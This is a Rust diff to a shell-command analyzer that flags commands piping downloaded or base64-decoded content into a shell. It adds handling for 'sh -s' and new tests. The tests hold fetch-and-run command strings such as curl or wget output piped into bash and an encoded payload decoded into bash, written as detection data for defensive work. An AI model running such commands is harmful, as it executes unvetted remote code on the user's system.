@@ -593,6 +593,30 @@ fn is_downloader(cmd: &[u8], args: &[Vec<u8>]) -> bool {
             }))
 }
 
+/// The script file an interpreter's arguments name: the first word that is no option or assignment. A
+/// shell given `-s` (alone or among short options) reads its commands from stdin and takes every later
+/// word as a positional parameter: `curl ... | sh -s -- -y --profile minimal` runs what curl fetched, and
+/// `minimal` is no script.
+fn script_operand<'a>(cmd: &[u8], args: &'a [Vec<u8>]) -> Option<&'a Vec<u8>> {
+    let shell = matches!(
+        cmd,
+        b"sh" | b"bash" | b"dash" | b"zsh" | b"ksh" | b"ash" | b"mksh" | b"busybox"
+    );
+    for a in args {
+        if a.starts_with(b"-") {
+            let short = !a.starts_with(b"--") && a.len() > 1;
+            if shell && short && a.contains(&b's') {
+                return None;
+            }
+            continue;
+        }
+        if !is_assignment(a) {
+            return Some(a);
+        }
+    }
+    None
+}
+
 /// A base64 decoder (`base64 -d`, `openssl base64 -d`, `b64decode(`).
 fn is_decoder(cmd: &[u8], args: &[Vec<u8>]) -> bool {
     (cmd == b"base64"
@@ -667,9 +691,7 @@ impl Walk {
             }
         }
         let is_interp = INTERPRETERS.contains(&cmd.as_slice());
-        let script_arg = args
-            .iter()
-            .find(|a| !a.starts_with(b"-") && !is_assignment(a));
+        let script_arg = script_operand(&cmd, args);
         if is_interp
             && seg.piped
             && script_arg.is_none_or(|a| a.as_slice() == b"-s" || a.as_slice() == b"-")
@@ -1061,6 +1083,10 @@ mod tests {
         assert!(analyze(b"bash -c \"$(curl -fsSL https://x.example/i.sh)\"").download_to_shell);
         assert!(analyze(b"bash <(wget -qO- http://x/y)").download_to_shell);
         assert!(analyze(b"/bin/sh -c 'curl -s http://a/b|bash'").download_to_shell);
+        // `sh -s`: commands from stdin, later words are its parameters (rustup's documented install).
+        assert!(analyze(b"curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh -s -- -y --profile minimal").download_to_shell);
+        assert!(analyze(b"wget -qO- http://x/i | bash -s stable").download_to_shell);
+        assert!(!analyze(b"curl -o a https://x/a | bash build.sh").download_to_shell);
         let s = analyze(b"echo Y3VybCBodHRwOi8veC95fHNo | base64 -d | bash");
         assert!(s.base64_decode && s.decode_to_shell && !s.download_to_shell);
         assert!(
